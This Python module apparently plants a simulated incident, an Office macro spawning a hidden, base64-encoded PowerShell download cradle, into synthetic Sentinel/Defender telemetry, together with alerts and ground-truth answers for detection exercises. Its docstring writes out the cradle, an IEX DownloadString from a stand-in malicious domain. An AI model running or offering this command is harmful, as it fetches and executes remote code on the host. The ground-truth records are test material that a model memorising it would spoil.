"""Incident 5: an Office macro starts an encoded PowerShell download cradle.

On the second day (11:23 UTC) WINWORD.EXE spawns ``powershell.exe -nop -w hidden -enc <base64>``, where the
base64 is UTF-16LE of ``IEX (New-Object Net.WebClient).DownloadString('http://officecdn-update.net/a.ps1')``.
PowerShell resolves the domain (Sentinel's DNS solution flags the answer IP from threat intelligence), fetches
the script over HTTP, and Defender for Endpoint raises a high-severity alert.
"""

from __future__ import annotations

import base64

from ..alerts import MDE, Alert, ip, machine, mde_alert_id, url, user
from ..dns_records import Record, ThreatIntel
from ..events import DevEvent
from ..plan import CRADLE_DOMAIN, CRADLE_HOST, CRADLE_IP, CRADLE_SCRIPT, CRADLE_URL, GroundTruth
from ..processes import CATALOG, US_PER_S, proc_index
from ..tenant import Tenant, from_us
from .common import LookupLog, Planted


def encoded_command(script: str) -> str:
    """PowerShell's -EncodedCommand form: base64 of the UTF-16LE script."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


CRADLE_COMMAND = f"powershell.exe -nop -w hidden -enc {encoded_command(CRADLE_SCRIPT)}"


def plant(t: Tenant) -> Planted:
    rng = t.rng("incident-cradle")
    dev = t.device(CRADLE_HOST)
    day = min(1, t.days - 1)
    start = t.at(day, 11, 23, 40.0)
    ti = ThreatIntel("Malware", "75", 3, "Malware download host (PowerShell stager)", "NL", 52.37, 4.89)
    log = LookupLog()
    log.lookup(
        start + 700_000,
        dev.idx,
        "powershell",
        CRADLE_DOMAIN,
        "A",
        [Record("A", CRADLE_DOMAIN, CRADLE_IP)],
        port=80,
        ti=ti,
    )
    out = Planted(dns=[log.batch()])
    pid = 4 * 3121
    ps_fields = {
        "InitiatingProcessCommandLine": CRADLE_COMMAND,
        "InitiatingProcessId": pid,
        "InitiatingProcessCreationTime": from_us(start),
        "InitiatingProcessParentFileName": "WINWORD.EXE",
        "InitiatingProcessAccountName": dev.user.sam,
    }
    out.add_events(
        "DeviceProcessEvents",
        [
            DevEvent(
                start,
                dev.idx,
                "winword",
                {"ProcessCommandLine": CRADLE_COMMAND, "ProcessId": pid},
                created="powershell",
            )
        ],
    )
    out.add_events(
        "DeviceNetworkEvents",
        [
            DevEvent(
                start + 1_100_000,
                dev.idx,
                "powershell",
                {
                    **ps_fields,
                    "ActionType": "ConnectionSuccess",
                    "RemoteIP": CRADLE_IP,
                    "RemotePort": 80,
                    "RemoteUrl": CRADLE_URL,
                    "LocalIP": dev.ip,
                    "LocalPort": int(rng.integers(49152, 65535)),
                    "Protocol": "Tcp",
                    "LocalIPType": "Private",
                    "RemoteIPType": "Public",
                },
            )
        ],
    )
    ps = CATALOG[proc_index("powershell")]
    alert = Alert(
        alert_id=mde_alert_id("cradle", t.seed),
        ts=from_us(start + 40 * US_PER_S),
        title="Suspicious PowerShell download or encoded command execution",
        category="Execution",
        severity="High",
        service_source=MDE,
        detection_source="EDR",
        techniques=[
            "PowerShell (T1059.001)",
            "Obfuscated Files or Information (T1027)",
            "Ingress Tool Transfer (T1105)",
        ],
        evidence=[
            {
                "EntityType": "Process",
                "EvidenceRole": "Impacted",
                "FileName": ps.file,
                "FolderPath": ps.path,
                "SHA1": t.procs.sha1[proc_index("powershell")],
                "SHA256": t.procs.sha256[proc_index("powershell")],
                "ProcessCommandLine": CRADLE_COMMAND,
                "DeviceId": dev.device_id,
                "DeviceName": dev.name,
            },
            url(CRADLE_URL),
            ip(CRADLE_IP),
            machine(dev),
            user(dev),
        ],
    )
    out.alerts.append(alert)
    gt = dict(
        incident="powershell_cradle",
        device_name=dev.name,
        device_id=dev.device_id,
        first_seen=from_us(start),
        last_seen=from_us(start + 1_100_000),
    )
    out.truth += [
        GroundTruth(kind="command_line", entity=CRADLE_COMMAND, detail=CRADLE_SCRIPT, **gt),
        GroundTruth(kind="domain", entity=CRADLE_DOMAIN, detail="download host; TI-flagged in DnsEvents", **gt),
        GroundTruth(kind="url", entity=CRADLE_URL, detail="stager fetched over HTTP by powershell.exe", **gt),
        GroundTruth(kind="ip", entity=CRADLE_IP, detail="download host address", **gt),
        GroundTruth(kind="alert", entity=alert.alert_id, detail=alert.title, **gt),
    ]
    return out
